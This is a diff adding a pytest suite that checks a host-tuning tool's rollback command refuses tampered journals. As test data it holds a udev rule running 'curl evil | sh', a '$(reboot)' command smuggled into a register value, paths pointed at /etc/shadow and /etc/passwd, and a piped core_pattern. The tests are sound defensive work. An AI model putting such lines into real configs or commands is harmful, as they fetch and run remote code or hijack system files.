@@ -1,0 +1,239 @@
+"""A journal is not trusted like a plan: rollback undoes only what its apply wrote, on the machine it wrote it."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from rigaudit.orchestrator.cli import main
+from rigaudit.tools.actions.persist import UDEV_FILE
+from rigaudit.tools.actions.provenance import restore_lines
+from rigaudit.tools.actions.targets import ConfigFileTarget, ModuleTarget, PciRegisterTarget, ServiceTarget, ValueFileTarget
+from rigaudit.tools.model.finding import ModuleLoadAction
+from rigaudit.tools.model.plan import Plan, PlanStep
+from tests.test_apply_support import NUMA, MemoryHost, fast_tmp, mini_seed, read, seed_plan, tree_digest
+
+Entry = dict[str, Any]
+
+
+@pytest.fixture(scope="module")
+def applied(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Path, list[Entry]]]:
+    """One apply (with --persist) into a copy of the mini seed: the copy and its journal, made once."""
+    for folder in fast_tmp(tmp_path_factory.mktemp("journal")):
+        mini = mini_seed(folder / "mini")
+        plan = folder / "plan.json"
+        plan.write_text(seed_plan().model_dump_json())
+        journal = folder / "j.jsonl"
+        argv = ["apply", "--snapshot", str(mini), "--into", str(folder / "copy"), "--plan", str(plan), "--yes"]
+        assert main([*argv, "--persist", "--journal", str(journal), "--no-transcript"]) == 0
+        yield folder / "copy", journal, [json.loads(line) for line in journal.read_text().splitlines()]
+
+
+@pytest.fixture
+def work(applied: tuple[Path, Path, list[Entry]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
+    copy, _, _ = applied
+    for folder in fast_tmp(tmp_path):
+        monkeypatch.chdir(folder)
+        shutil.copytree(copy, folder / "copy")
+        yield folder
+
+
+def _rollback(work: Path, entries: list[Entry] | list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, list[str]]:
+    journal = work / "j.jsonl"
+    journal.write_text("".join((e if isinstance(e, str) else json.dumps(e)) + "\n" for e in entries))
+    capsys.readouterr()
+    code = main(["rollback", str(journal), "--snapshot", str(work / "copy"), "--yes", "--no-transcript"])
+    return code, capsys.readouterr().err.strip().splitlines()
+
+
+def _first_planned(entries: list[Entry], kind: str) -> Entry:
+    return next(e for e in entries if e.get("state") == "planned" and e["target"]["type"] == kind)
+
+
+def _rehash(entries: list[Entry]) -> None:
+    """Make every hash agree with the edited plan, as a careful tamperer would."""
+    digest = Plan.model_validate(entries[0]["plan"]).digest()
+    for entry in entries:
+        if "plan_hash" in entry:
+            entry["plan_hash"] = digest
+        if "approval" in entry:
+            entry["approval"]["plan_hash"] = digest
+
+
+def _other_sysctl(entries: list[Entry]) -> None:
+    change = _first_planned(entries, "value_file")
+    change["target"] = {**change["target"], "path": "/proc/sys/vm/swappiness", "label": "vm.swappiness"}
+
+
+def _outside_path(entries: list[Entry]) -> None:
+    _first_planned(entries, "value_file")["target"]["path"] = "/etc/shadow"
+
+
+def _nul_in_path(entries: list[Entry]) -> None:
+    _first_planned(entries, "value_file")["target"]["path"] = "/proc/sys/kernel/numa\x00balancing"
+
+
+def _plan_edited(entries: list[Entry]) -> None:
+    entries[0]["plan"]["steps"][0]["title"] = "something else"
+
+
+def _module_smuggled(entries: list[Entry]) -> None:
+    step = PlanStep(
+        id="evil", check="x.y", priority="P0", kind="runtime", where="host", title="t", actions=(ModuleLoadAction(module="ext4"),)
+    )
+    entries[0]["plan"]["steps"].append(json.loads(step.model_dump_json()))
+    _rehash(entries)
+    change = {**_first_planned(entries, "value_file"), "seq": 999, "step_id": "evil"}
+    change["target"], change["before"] = {"type": "module", "module": "ext4"}, "absent"
+    entries.append(change)
+
+
+def _file_removed(entries: list[Entry]) -> None:
+    change = {**_first_planned(entries, "config_file"), "seq": 999}
+    change["target"] = {"type": "config_file", "path": "/etc/passwd", "content": "x"}
+    change["before"] = None
+    entries.append(change)
+
+
+def _udev_rule_added(entries: list[Entry]) -> None:
+    for entry in entries:
+        target = entry.get("target") or {}
+        if target.get("path") == UDEV_FILE:
+            target["content"] += 'ACTION=="add", RUN+="/bin/sh -c \'curl evil | sh\'"\n'
+            return
+    raise AssertionError("the apply wrote no udev rule")
+
+
+def _no_plan(entries: list[Entry]) -> None:
+    del entries[0]["plan"]
+
+
+def _other_machine(entries: list[Entry]) -> None:
+    entries[0]["host_id"] = "machine-id:" + "a" * 32
+
+
+def _bad_before(entries: list[Entry]) -> None:
+    _first_planned(entries, "pci_register")["before"] = "$(reboot)"
+
+
+def _orphan_outcome(entries: list[Entry]) -> None:
+    outcome = next(e for e in entries if e.get("ref") is not None)
+    outcome["ref"] = 12345
+
+
+def _deep_line(entries: list[Entry]) -> None:
+    entries.insert(2, {"schema": "rigaudit.journal/1", "seq": 5000, "kind": "approval", "message": "x", "nested": []})
+    entries[2]["nested"] = json.loads("[" * 500 + "]" * 500)
+
+
+TAMPERED: dict[str, tuple[Callable[[list[Entry]], None], str]] = {
+    "another sysctl": (_other_sysctl, "not a target of step"),
+    "a path outside /proc/sys and /sys": (_outside_path, "damaged or invalid line"),
+    "a NUL byte in a path": (_nul_in_path, "damaged or invalid line"),
+    "the plan edited": (_plan_edited, "does not have the recorded hash"),
+    "a module smuggled in with its plan rehashed": (_module_smuggled, "not one rigaudit loads"),
+    "a file to delete": (_file_removed, "not a persist file"),
+    "a udev rule added": (_udev_rule_added, "gains a line the plan does not write"),
+    "no plan recorded": (_no_plan, "records no plan"),
+    "another machine": (_other_machine, "written on the machine"),
+    "a register value that is shell": (_bad_before, "damaged or invalid line|not hex"),
+    "an outcome of nothing": (_orphan_outcome, "matches no earlier change"),
+    "a deeply nested line": (_deep_line, "damaged or invalid line"),
+}
+
+
+@pytest.mark.parametrize("name", TAMPERED)
+def test_a_tampered_journal_is_refused_with_one_line_and_nothing_changes(
+    name: str, applied: tuple[Path, Path, list[Entry]], work: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    tamper, reason = TAMPERED[name]
+    entries = json.loads(json.dumps(applied[2]))
+    tamper(entries)
+    before = tree_digest(work / "copy")
+    code, err = _rollback(work, entries, capsys)
+    assert code == 2
+    assert len(err) == 1 and "Traceback" not in err[0] and "refusing" in err[0]
+    assert any(part in err[0] for part in reason.split("|")), err[0]
+    assert tree_digest(work / "copy") == before
+
+
+def test_the_untampered_journal_rolls_back(
+    applied: tuple[Path, Path, list[Entry]], work: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, err = _rollback(work, applied[2], capsys)
+    assert code == 0 and err == []
+    assert read(work / "copy", NUMA) == b"1\n"
+    assert not (work / "copy" / "files" / UDEV_FILE.lstrip("/")).exists()
+
+
+def test_a_torn_last_line_is_the_one_damage_allowed(
+    applied: tuple[Path, Path, list[Entry]], work: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    lines: list[str] = [json.dumps(e) for e in applied[2]]
+    code, _ = _rollback(work, [*lines, lines[-1][: len(lines[-1]) // 2]], capsys)
+    assert code == 0
+    code, err = _rollback(work, [*lines[:3], lines[3][:10], *lines[4:]], capsys)
+    assert code == 2 and "damaged or invalid line" in err[0]
+
+
+def test_a_live_rollback_of_a_crafted_journal_touches_nothing(
+    work: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A journal claiming this machine: its core_pattern change is refused before any host is touched."""
+    host = MemoryHost({"/proc/sys/kernel/core_pattern": b"core\n"})
+    monkeypatch.setattr("rigaudit.tools.hosts.local.LocalHost", lambda: host)
+    target = ValueFileTarget(path="/proc/sys/kernel/core_pattern", value="|/tmp/x", label="kernel.core_pattern")
+    plan = Plan()
+    session = {"schema": "rigaudit.journal/1", "seq": 1, "kind": "session", "host": host.name, "source": "local"}
+    session |= {"plan": json.loads(plan.model_dump_json()), "plan_hash": plan.digest()}
+    change = {"schema": "rigaudit.journal/1", "seq": 2, "kind": "change", "state": "planned", "step_id": "x"}
+    change |= {"target": json.loads(target.model_dump_json()), "before": "|/tmp/evil"}
+    (work / "j.jsonl").write_text(json.dumps(session) + "\n" + json.dumps(change) + "\n")
+    assert main(["rollback", str(work / "j.jsonl"), "--yes", "--no-transcript"]) == 2
+    err = capsys.readouterr().err
+    assert "not one rigaudit changes" in err and host.writes == [] and host.commands == []
+
+
+def test_the_approval_shows_every_path_value_and_command() -> None:
+    lines = restore_lines(
+        [
+            (ValueFileTarget(path=NUMA, value="0", label="kernel.numa_balancing"), "1\n"),
+            (PciRegisterTarget(device="0000:03:00.0", capability="exp", offset=8, width=2, value=0x5000, mask=0x7000), "0x283f"),
+            (ModuleTarget(module="nvidia_uvm"), "absent"),
+            (ServiceTarget(unit="nvidia-persistenced"), "inactive"),
+            (ConfigFileTarget(path=UDEV_FILE, content="a\n"), None),
+            (ConfigFileTarget(path="/etc/sysctl.d/90-rigaudit.conf", content="x\ny\n"), "x\n"),
+        ]
+    )
+    assert lines == [
+        f"write '1\\n' to {NUMA}",
+        "setpci -s 0000:03:00.0 CAP_EXP+0x8.w=2000:7000",
+        "modprobe -r nvidia_uvm",
+        "systemctl stop nvidia-persistenced",
+        f"remove {UDEV_FILE}",
+        "write 1 line(s) back to /etc/sysctl.d/90-rigaudit.conf:",
+        "    x",
+    ]
+
+
+def test_the_rollback_approval_lists_the_changes(
+    applied: tuple[Path, Path, list[Entry]], work: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    seen: list[str] = []
+
+    def approve(what: str, details: list[str], **_: object) -> object:
+        seen.extend(details)
+        raise SystemExit(0)
+
+    monkeypatch.setattr("rigaudit.orchestrator.commands.rollback.require_approval", approve)
+    with pytest.raises(SystemExit):
+        _rollback(work, applied[2], capsys)
+    assert f"write '1\\n' to {NUMA}" in seen
+    assert sum(1 for line in seen if line.startswith("write '0\\n' to /sys/devices/system/cpu/")) == 128
+    assert any(line.startswith("setpci -s 0000:03:00.0 CAP_EXP+0x8.w=") for line in seen)
+    assert any(line.startswith("remove /etc/") for line in seen)
